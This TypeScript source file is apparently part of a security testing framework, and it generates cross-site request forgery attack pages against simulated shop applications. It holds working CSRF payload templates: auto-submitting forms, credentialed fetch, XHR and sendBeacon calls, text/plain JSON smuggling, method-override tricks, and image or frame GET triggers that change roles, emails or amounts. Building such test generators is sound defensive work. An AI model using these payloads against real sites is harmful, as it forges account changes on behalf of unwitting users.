import type { Random } from '../../lib/random.ts';
import type { Attack, Grammar } from '../contract.ts';
import { changes, type ShopContext, shopContexts } from '../oracle/csrf/shop.ts';
import { aName } from './words.ts';

type Pairs = readonly (readonly [name: string, value: string])[];

/** What is to be sent. */
interface Target {
  readonly url: string;
  readonly pairs: Pairs;
}

const attributeText = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const inputs = (pairs: Pairs): string =>
  pairs
    .map(([name, value]) => {
      return `<input name="${attributeText(name)}" value="${attributeText(value)}">`;
    })
    .join('');
const queryOf = (pairs: Pairs): string =>
  pairs.map((pair) => pair.map(encodeURIComponent).join('=')).join('&');
const page = (body: string): string => `<!doctype html><html><body>${body}</body></html>`;

function targetOf(random: Random, { shop, takes }: ShopContext): Target {
  const { path, fields } = random.pick(changes);
  const values: Readonly<Record<string, () => string>> = {
    email: () => `${aName(random)}@elsewhere.test`,
    amount: () => String(random.below(9_000) + 1),
    id: () => String(random.below(900) + 1),
    role: () => random.pick(['admin', 'owner']),
    confirm: () => random.pick(['yes', '1', 'true']),
  };
  const pairs: [string, string][] = fields.map((name) => [name, values[name]?.() ?? aName(random)]);
  if (takes.startsWith('override')) {
    pairs.push(['_method', random.pick(['DELETE', 'PUT', 'PATCH', 'delete'])]);
  }
  return { url: shop + path, pairs };
}

type Senders = readonly (readonly [
  kind: string,
  write: (random: Random, target: Target) => string,
])[];

const submits = [
  '<script>document.forms[0].submit()</script>',
  '<script>f.submit()</script>',
  '<script>f.requestSubmit()</script>',
  '<script>HTMLFormElement.prototype.submit.call(f)</script>',
  '<script>onload=function(){f.submit()}</script>',
  '<img src="x:" onerror="f.submit()">',
  '<svg onload="f.submit()"></svg>',
];

function formOf(random: Random, method: string, { url, pairs }: Target, more = ''): string {
  const form = `<form id="f" action="${attributeText(url)}" method="${method}"${more}>`;
  const sent = random.chance(25)
    ? '<button id="b"></button></form><script>b.click()</script>'
    : `</form>${random.pick(submits)}`;
  return page(form + inputs(pairs) + sent);
}

const bodies: Readonly<Record<string, (pairs: Pairs) => string>> = {
  'a form type': (pairs) => `new URLSearchParams(${JSON.stringify(queryOf(pairs))})`,
  multipart: (pairs) =>
    `(()=>{const d=new FormData();${pairs
      .map((pair) => `d.append(${pair.map((one) => JSON.stringify(one)).join()});`)
      .join('')}return d})()`,
};

function scripted(random: Random, url: string, body: string): string {
  const target = JSON.stringify(url);
  return page(
    `<script>${random.pick([
      `fetch(${target},{method:'POST',mode:'no-cors',credentials:'include',body:${body}})`,
      `fetch(${target},{method:'POST',mode:'no-cors',credentials:'include',keepalive:true,body:${body}})`,
      `navigator.sendBeacon(${target},${body})`,
      `const x=new XMLHttpRequest();x.open('POST',${target});x.withCredentials=true;x.send(${body})`,
    ])}</script>`,
  );
}

const posts: Senders = [
  ['form', (random, target) => formOf(random, 'post', target)],
  ['form', (random, target) => formOf(random, 'POST', target)],
  [
    'multipart form',
    (random, target) => formOf(random, 'post', target, ' enctype="multipart/form-data"'),
  ],
  [
    'form in a frame',
    (random, target) =>
      formOf(random, 'post', target, ' target="z"').replace(
        '<form',
        '<iframe name="z"></iframe><form',
      ),
  ],
  [
    'button of a form',
    (_random, { url, pairs }) =>
      page(
        `<form>${inputs(pairs)}<button id="b" formmethod="post" formaction="${url}"></button></form><script>b.click()</script>`,
      ),
  ],
  [
    'form by script',
    (_random, { url, pairs }) =>
      page(
        `<script>const f=document.createElement('form');f.method='post';f.action=${JSON.stringify(url)};for(const [n,v] of ${JSON.stringify(pairs)}){const i=document.createElement('input');i.name=n;i.value=v;f.append(i)}document.body.append(f);f.submit()</script>`,
      ),
  ],
  [
    'script',
    (random, { url, pairs }) => {
      const body = random.pick(Object.values(bodies));
      return scripted(random, url, body(pairs));
    },
  ],
];

/** A field of a plain-text form, of which the name and the value are JSON together. */
function jsonForm(random: Random, { url, pairs }: Target): string {
  const json = JSON.stringify(Object.fromEntries(pairs));
  const name = `${json.slice(0, -1)},"${aName(random)}":"`;
  const parts: Pairs = random.pick([[[name, '"}']], [[name, `${aName(random)}"}`]]]);
  return formOf(random, 'post', { url, pairs: parts }, ' enctype="text/plain"');
}

const jsons: Senders = [
  ['plain-text form', jsonForm],
  [
    'plain-text script',
    (random, { url, pairs }) =>
      scripted(random, url, JSON.stringify(JSON.stringify(Object.fromEntries(pairs)))),
  ],
  [
    'bytes by script',
    (random, { url, pairs }) => {
      const json = JSON.stringify(JSON.stringify(Object.fromEntries(pairs)));
      const type = random.pick([
        '',
        ",{type:'text/plain'}",
        ",{type:'application/x-www-form-urlencoded'}",
      ]);
      return scripted(random, url, `new Blob([${json}]${type})`);
    },
  ],
];

const navigations: Senders = [
  ['form', (random, target) => formOf(random, 'get', target)],
  [
    'address',
    (random, target) => {
      const url = JSON.stringify(addressOf(target));
      return page(
        `<script>${random.pick([`location=${url}`, `location.replace(${url})`, `top.location.href=${url}`])}</script>`,
      );
    },
  ],
  [
    'refresh',
    (_random, target) =>
      page(`<meta http-equiv="refresh" content="0;url=${attributeText(addressOf(target))}">`),
  ],
  [
    'link',
    (_random, target) =>
      page(`<a id="a" href="${attributeText(addressOf(target))}">x</a><script>a.click()</script>`),
  ],
];

const loads: Senders = Object.entries({
  image: '<img src="%">',
  frame: '<iframe src="%"></iframe>',
  script: '<script src="%"></script>',
  style: '<link rel="stylesheet" href="%">',
  background: `<p style="background:url('%')">x</p>`,
  object: '<object data="%"></object>',
  video: '<video src="%" preload="auto"></video>',
}).map(([kind, markup]) => [
  kind,
  (_random, target) => page(markup.replace('%', () => attributeText(addressOf(target)))),
]);

function addressOf({ url, pairs }: Target): string {
  return `${url}?${queryOf(pairs)}`;
}

function sendersFor({ takes, sameSite }: ShopContext): Senders {
  switch (takes) {
    case 'json':
      return jsons;
    case 'query':
      return sameSite === 'None' ? [...loads, ...navigations] : navigations;
    case 'override of any method':
      return navigations;
    default:
      return posts;
  }
}

/** Pages of another origin that change something in the name of a visitor. */
export const csrf: Grammar = {
  language: 'csrf',
  attack: (random, _oracle, { name }): Attack => {
    const context = shopContexts.find((one) => one.name === name);
    if (context === undefined) throw new Error(`No application takes ${name}.`);
    const target = targetOf(random, context);
    const [kind, write] = random.pick(sendersFor(context));
    const isSplit = context.takes === 'override' && random.chance(30);
    if (!isSplit) return { kind, values: [write(random, target)] };
    const [method, ...others] = [...target.pairs].reverse();
    const url = `${target.url}?${queryOf(method === undefined ? [] : [method])}`;
    return {
      kind: `${kind}, method in the query`,
      values: [write(random, { url, pairs: others })],
    };
  },
};
